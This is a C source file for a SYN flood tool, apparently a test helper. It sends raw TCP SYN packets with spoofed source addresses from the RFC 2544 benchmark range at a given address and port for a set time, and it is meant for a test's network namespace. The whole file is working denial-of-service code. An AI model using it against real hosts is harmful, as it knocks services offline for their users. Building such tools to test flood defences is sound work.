/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * syn_flood ADDRESS PORT SECONDS: SYNs from random sources, as fast as one CPU can. Prints how
 * many.
 *
 * The sources are of 198.18.0.0/15, which belongs to benchmarks (RFC 2544) and is routed nowhere.
 * To be run in a network namespace that a test made. Everything about the packets is right, their
 * checksums included: nobody on the way has a reason to drop them.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH		    64
#define SOURCE_NETWORK	    0xc6120000 /* 198.18.0.0 */
#define SOURCE_HOST_MASK    0x0001ffff
#define EPHEMERAL_PORTS_MIN 1024

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

struct flood {
	int socket;
	struct sockaddr_in target;
	uint64_t random; /* never 0 */
	uint64_t sent;
	struct packet packets[BATCH];
	struct iovec vectors[BATCH];
	struct mmsghdr messages[BATCH];
};

/* xorshift64 (Marsaglia, 2003). */
static uint64_t next_random(struct flood *flood)
{
	flood->random ^= flood->random << 13;
	flood->random ^= flood->random >> 7;
	flood->random ^= flood->random << 17;
	return flood->random;
}

static uint64_t sum_words(const void *data, size_t bytes)
{
	uint64_t sum = 0;
	uint16_t word;

	for (size_t i = 0; i < bytes; i += sizeof(word)) {
		memcpy(&word, (const char *)data + i, sizeof(word));
		sum += word;
	}
	return sum;
}

static uint16_t tcp_checksum(const struct packet *packet)
{
	uint64_t sum = sum_words(&packet->ip.saddr, 2 * sizeof(packet->ip.saddr)) +
		       htons(IPPROTO_TCP) + htons(sizeof(packet->tcp)) +
		       sum_words(&packet->tcp, sizeof(packet->tcp));

	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* The kernel fills in the IP header's length and checksum. */
static void make_packet(struct flood *flood, struct packet *packet)
{
	uint64_t random = next_random(flood);
	uint16_t port =
		(uint16_t)(EPHEMERAL_PORTS_MIN + (random >> 32) % (65536 - EPHEMERAL_PORTS_MIN));

	*packet = (struct packet){
		.ip =
			{
				.version = 4,
				.ihl = sizeof(packet->ip) / 4,
				.ttl = 64,
				.protocol = IPPROTO_TCP,
				.saddr = htonl(SOURCE_NETWORK |
					       ((uint32_t)random & SOURCE_HOST_MASK)),
				.daddr = flood->target.sin_addr.s_addr,
			},
		.tcp =
			{
				.source = htons(port),
				.dest = flood->target.sin_port,
				.seq = (uint32_t)next_random(flood),
				.doff = sizeof(packet->tcp) / 4,
				.syn = 1,
				.window = htons(65535),
			},
	};
	packet->tcp.check = tcp_checksum(packet);
}

static int send_batch(struct flood *flood)
{
	int count;

	for (size_t i = 0; i < BATCH; i++) {
		make_packet(flood, &flood->packets[i]);
		flood->vectors[i] = (struct iovec){&flood->packets[i], sizeof(flood->packets[i])};
		flood->messages[i].msg_hdr = (struct msghdr){
			.msg_name = &flood->target,
			.msg_namelen = sizeof(flood->target),
			.msg_iov = &flood->vectors[i],
			.msg_iovlen = 1,
		};
	}
	count = sendmmsg(flood->socket, flood->messages, BATCH, 0);
	if (count > 0)
		flood->sent += (unsigned)count;
	return count < 0 && errno != ENOBUFS && errno != EINTR ? -1 : 0;
}

static double now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static int flood_for(struct flood *flood, double seconds)
{
	double end = now_s() + seconds;

	while (now_s() < end) {
		if (send_batch(flood)) {
			perror("syn_flood: sendmmsg");
			return -1;
		}
	}
	printf("%llu\n", (unsigned long long)flood->sent);
	return 0;
}

int main(int count, char **values)
{
	static struct flood flood = {.random = 0x9e3779b97f4a7c15, .target.sin_family = AF_INET};

	if (count != 4 || inet_pton(AF_INET, values[1], &flood.target.sin_addr) != 1) {
		fputs("usage: syn_flood ADDRESS PORT SECONDS\n", stderr);
		return 2;
	}
	flood.target.sin_port = htons((uint16_t)strtoul(values[2], NULL, 10));
	flood.socket = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (flood.socket < 0) {
		perror("syn_flood: socket");
		return EXIT_FAILURE;
	}
	return flood_for(&flood, strtod(values[3], NULL)) ? EXIT_FAILURE : EXIT_SUCCESS;
}
